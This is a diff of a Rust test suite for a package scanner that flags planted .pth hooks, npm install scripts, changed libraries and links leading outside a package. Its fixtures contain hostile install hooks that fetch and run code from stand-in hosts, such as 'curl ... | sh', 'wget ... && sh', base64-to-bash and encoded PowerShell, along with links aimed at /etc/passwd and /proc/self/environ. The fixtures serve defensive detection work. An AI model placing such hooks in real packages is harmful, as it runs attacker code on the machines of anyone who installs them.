@@ -241,7 +241,7 @@ fn hostile_lists_and_lines_cost_no_more_than_their_length() {
     let fillers = format!("x = ' {}';\n", "\u{3164} ".repeat(300_000));
     let embedded = format!(
         "// {}{}\n",
-        "\u{202a}".repeat(300_000),
+        "\u{202b}".repeat(300_000),
         "\u{2069}".repeat(300_000)
     );
     let files: [File; 4] = [
@@ -273,6 +273,52 @@ fn turned_line_ends_are_said_to_be_that() {
     let report = report(&place, "fn.zip");
     let title = report["findings"][0]["title"].as_str().unwrap();
     assert!(title.ends_with("2 files"), "{title}");
+}
+
+#[test]
+fn a_tar_does_not_tell_line_ends_from_few_other_bytes() {
+    let place = Workplace::new();
+    let crlf = String::from_utf8_lossy(CORE).replace('\n', "\r\n");
+    let longer = [CORE, b"import os\n"].concat();
+    for (core, expected) in [
+        (crlf.as_bytes(), "INTEGRITY-CHANGED medium a/core.py"),
+        (&longer, "INTEGRITY-CHANGED high a/core.py"),
+    ] {
+        let mut files = wheel("", &[]);
+        replace(&mut files, "a/core.py", core);
+        let files: Vec<(&str, &[u8])> = files
+            .iter()
+            .map(|(p, c)| (p.as_str(), c.as_slice()))
+            .collect();
+        place.file("fn.tar", tar(&files));
+        assert_eq!(found(&place, "fn.tar"), [expected]);
+    }
+}
+
+#[test]
+fn libraries_that_strip_may_have_changed_are_low_and_added_ones_high() {
+    let library = [ELF, &[1; 9_000]].concat();
+    for (length, expected) in [
+        (5_000, "low"),
+        (12_000, "low"),
+        (library.len(), "high"),
+        (30_000, "high"),
+    ] {
+        let place = Workplace::new();
+        let mut files = wheel("", &[("a.libs/liba-1.so.5.0.0", &library)]);
+        replace(&mut files, "liba-1.so.5.0.0", &vec![2; length]);
+        place.file("fn.zip", zip(&plain(&files)));
+        let expected = format!("INTEGRITY-CHANGED {expected} a.libs/liba-1.so.5.0.0");
+        assert_eq!(found(&place, "fn.zip"), [expected], "{length}");
+    }
+    let place = Workplace::new();
+    let mut files = wheel("", &[]);
+    files.push(("a/evil.so.1".to_owned(), library));
+    place.file("fn.zip", zip(&plain(&files)));
+    assert_eq!(
+        found(&place, "fn.zip"),
+        ["INTEGRITY-UNRECORDED high a/evil.so.1"]
+    );
 }
 
 #[test]
@@ -314,8 +360,13 @@ fn the_list_of_an_older_version_misses_nothing() {
 fn lists_that_make_no_sense_are_said_so() {
     let place = Workplace::new();
     let twice = format!("{}{}", row("a/core.py", CORE), row("a/core.py", INIT));
-    let files: [File; 3] = [
+    let files: [File; 4] = [
         ("a/core.py", CORE, PLAIN),
+        (
+            "c-1.0.dist-info/RECORD",
+            b"a/core.py,sha256=AAAA,29\n",
+            PLAIN,
+        ),
         ("a-1.0.dist-info/RECORD", twice.as_bytes(), PLAIN),
         ("b-1.0.dist-info/RECORD", b"\0\x01\x02", PLAIN),
     ];
@@ -326,6 +377,7 @@ fn lists_that_make_no_sense_are_said_so() {
         [
             "fn.zip!/a-1.0.dist-info/RECORD: lists a file twice, with different digests",
             "fn.zip!/b-1.0.dist-info/RECORD: is no list of files: what it is about was not compared with it",
+            "fn.zip!/c-1.0.dist-info/RECORD: has digests that cannot be read: their files were compared by length alone",
         ]
     );
     assert_eq!(report["findings"].as_array().unwrap().len(), 0);
@@ -338,10 +390,14 @@ const PLANTS: &[(&str, &[u8], u32, &str)] = &[
     // Python
     ("site-packages/x.pth", b"import os; os.system('id')\n", PLAIN, "HOOK-PTH high"),
     ("python/x.pth", b"# comment\n./lib\nimport\tx\n", PLAIN, "HOOK-PTH high"),
-    ("x.pth", b"\xEF\xBB\xBFlib\r\nimport x\r\n", PLAIN, "HOOK-PTH high"),
+    ("x.pth", b"\xEF\xBB\xBFlib\r\nimport x\r\n", PLAIN, "HOOK-PTH medium"),
+    ("site-packages/x.pth", b"\xEF\xBB\xBFimport x\n", PLAIN, "HOOK-PTH high"),
+    ("site-packages/x.pth", b"lib\rimport x\rlib\r", PLAIN, "HOOK-PTH high"),
+    ("site-packages/x.pth", b"import x\n\0", PLAIN, "HOOK-PTH high"),
+    ("site-packages/_virtualenv.pth", b"import _virtualenv", PLAIN, "HOOK-PTH low"),
     ("site-packages/x.pth", b"./lib\nimporter\n# import x\n", PLAIN, ""),
     ("site-packages/x.pth", b" import x\n", PLAIN, ""),
-    ("models/x.pth", b"PK\x03\x04\0\0import \nimport x\n", PLAIN, ""),
+    ("models/x.pth", b"PK\x03\x04\0\0\x80\x02import \nimport x\n", PLAIN, ""),
     ("tests/x.pth", b"import x\n", PLAIN, ""),
     ("sitecustomize.py", b"import x\n", PLAIN, "HOOK-CUSTOMIZE high"),
     ("python/usercustomize.py", b"import x\n", PLAIN, "HOOK-CUSTOMIZE high"),
@@ -371,12 +427,12 @@ const PLANTS: &[(&str, &[u8], u32, &str)] = &[
     ("src/extensions/agent", ELF, RUNS, ""),
     // npm
     ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://x.example/i | sh\"}}", PLAIN, "HOOK-INSTALL high"),
-    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node -e \\\"require('child_process')\\\"\"}}", PLAIN, "HOOK-INSTALL high"),
+    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node -e \\\"require('child_process')\\\"\"}}", PLAIN, "HOOK-INSTALL medium"),
     ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"powershell -enc AAAA\"}}", PLAIN, "HOOK-INSTALL high"),
     ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"echo aWQ= | base64 -d | bash\"}}", PLAIN, "HOOK-INSTALL high"),
     ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"./configure --quick\"}}", PLAIN, "HOOK-INSTALL low"),
     ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"prebuild-install || node-gyp rebuild\"}}", PLAIN, "HOOK-INSTALL info"),
-    ("package.json", b"{\"name\":\"own\",\"scripts\":{\"postinstall\":\"wget http://x.example/a && sh a\"}}", PLAIN, "HOOK-INSTALL high"),
+    ("package.json", b"{\"name\":\"own\",\"scripts\":{\"postinstall\":\"wget http://x.example/a && sh a\"}}", PLAIN, "HOOK-INSTALL low"),
     ("package.json", b"{\"name\":\"own\",\"scripts\":{\"postinstall\":\"make tables\"}}", PLAIN, "HOOK-INSTALL info"),
     ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"curl x\",\"prepublish\":\"node -e x\",\"install\":\"\"}}", PLAIN, ""),
     ("node_modules/a/package.json", b"{\"name\":\"b\",\"version\":\"1.0.0\"}", PLAIN, "INTEGRITY-NAME medium"),
@@ -535,6 +591,24 @@ fn a_hook_that_a_wheel_brought_is_told_from_one_that_nobody_did() {
     assert_eq!(found, expected);
 }
 
+#[test]
+fn a_line_that_imports_a_module_is_known_where_a_wheel_vouches_for_the_module() {
+    let line = b"import _virtualenv".as_slice();
+    for (module, expected) in [(b"import os\n".as_slice(), false), (b"import sys\n", true)] {
+        let place = Workplace::new();
+        let module_path = "_virtualenv.py";
+        let mut files = wheel(
+            "site-packages/",
+            &[("_virtualenv.pth", line), (module_path, b"import os\n")],
+        );
+        replace(&mut files, module_path, module);
+        place.file("fn.zip", zip(&plain(&files)));
+        let found = found(&place, "fn.zip");
+        let row = "HOOK-PTH low site-packages/_virtualenv.pth".to_owned();
+        assert_eq!(found.contains(&row), expected, "{found:?}");
+    }
+}
+
 /// A tar with entries that [`tar`] does not make: links, and files with permissions.
 fn tar_with(entries: &[(&str, tar::EntryType, &str, u32)]) -> Vec<u8> {
     let mut builder = tar::Builder::new(Vec::new());
@@ -566,7 +640,14 @@ fn links_that_lead_out_are_found() {
         ("link", "/tmp/x", Some("high")),
         ("link", "/usr/bin/python3", Some("low")),
         ("link", "/srv/shared/x", Some("medium")),
-        ("link", "/opt/../etc/passwd", Some("medium")),
+        ("link", "/opt/../etc/passwd", Some("high")),
+        ("link", "//tmp/x", Some("high")),
+        ("link", "/var/task/../../tmp/x", Some("high")),
+        ("link", "/./proc/self/environ", Some("high")),
+        ("link", "/tmpfiles/x", Some("medium")),
+        ("link", "/processes", Some("medium")),
+        ("link", "/proc/self/mounts", Some("low")),
+        ("link", "/proc/self/fd/1", Some("low")),
         ("link", "/opt/lib/x", None),
         ("link", "/var/task/x", None),
         ("a/link", "../b/x", None),
@@ -584,6 +665,15 @@ fn links_that_lead_out_are_found() {
             .collect();
         assert_eq!(found(&place, "fn.tar"), expected, "{target}");
     }
+    // A hard link counts from the root.
+    let hard = tar::EntryType::Link;
+    let entries = [
+        ("a/x", tar::EntryType::Regular, "x", PLAIN),
+        ("a/b/inside", hard, "a/x", 0o777),
+        ("a/b/outside", hard, "../x", 0o777),
+    ];
+    place.file("fn.tar", tar_with(&entries));
+    assert_eq!(found(&place, "fn.tar"), ["HOOK-LINK medium a/b/outside"]);
 }
 
 #[test]
